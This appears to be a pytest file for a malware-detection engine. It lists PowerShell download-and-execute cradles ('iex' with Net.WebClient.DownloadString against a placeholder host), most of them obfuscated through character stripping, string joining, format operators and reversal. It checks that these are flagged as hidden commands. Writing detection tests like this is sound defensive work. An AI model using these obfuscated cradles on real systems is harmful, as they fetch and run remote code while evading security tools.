"""A web or run member (DownloadString, Net.WebClient, Assembly.Load...) that the text never
spells, which only a reading makes whole, is a command hidden from the reader: the same as a
command name looked up by wildcard. Written out anywhere, it is not hidden."""

from __future__ import annotations

import pytest

from app.detection import Engine, Level
from app.detection.interpret import Behaviour, interpret

URL = "https://cdn.obf-stage.test/a"

HIDDEN = [
    # junk characters stripped by .Replace / -replace, the quotes doubled inside the string
    f"iex ('(New-Object Net.WebC%lient).Downlo%adString(''{URL}'')'.Replace('%',''))",
    f"iex ('(New-Object Net.WebC#lient).Downlo#adString(\"{URL}\")' -replace '#','')",
    f"iex ('(New-Object Net.We~bClient).Dow~nloadString(''{URL}'')'.Replace('~',''))",
    # pieces joined, then run
    f"iex ('(New-Object Net.Web'+'Client).Down'+'loadString(''{URL}'')')",
    f"iex (-join ('(New-Object Net.Web','Client).Downl','oadString(''{URL}'')'))",
    # the pieces put back by the format operator
    f"iex ('(New-Object Net.{{0}}).{{1}}(''{URL}'')' -f 'WebClient','DownloadString')",
    # reversed
    "iex (-join ('))''" + URL[::-1] + "''(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN('[-1..-200]))",
]


@pytest.mark.parametrize("text", HIDDEN)
def test_a_member_only_a_reading_spells_is_hidden(text: str) -> None:
    assert Behaviour.HIDDEN_COMMAND in interpret(text).behaviours, text


@pytest.mark.parametrize("text", HIDDEN[:3])
def test_the_hidden_cradle_is_blocked_bare(engine: Engine, text: str) -> None:
    assert engine.analyze(text).level is Level.MALICIOUS, text


@pytest.mark.parametrize(
    "text",
    [
        f"iex ((New-Object Net.WebClient).DownloadString('{URL}'))",
        f"$wc = New-Object System.Net.WebClient; $wc.DownloadFile('{URL}', \"$env:TEMP\\a.zip\")",
        f"(New-Object Net.WebClient).DownloadString('{URL}') | Out-File page.html",
        f"$c = [System.Net.Http.HttpClient]::new(); $c.GetStringAsync('{URL}').Result",
        # a string that only names the method, the member itself written out
        f"Write-Host 'Downlo%adString'.Replace('%',''); (New-Object Net.WebClient).DownloadString('{URL}')",
    ],
)
def test_a_member_written_out_is_not_hidden(text: str) -> None:
    assert Behaviour.HIDDEN_COMMAND not in interpret(text).behaviours, text
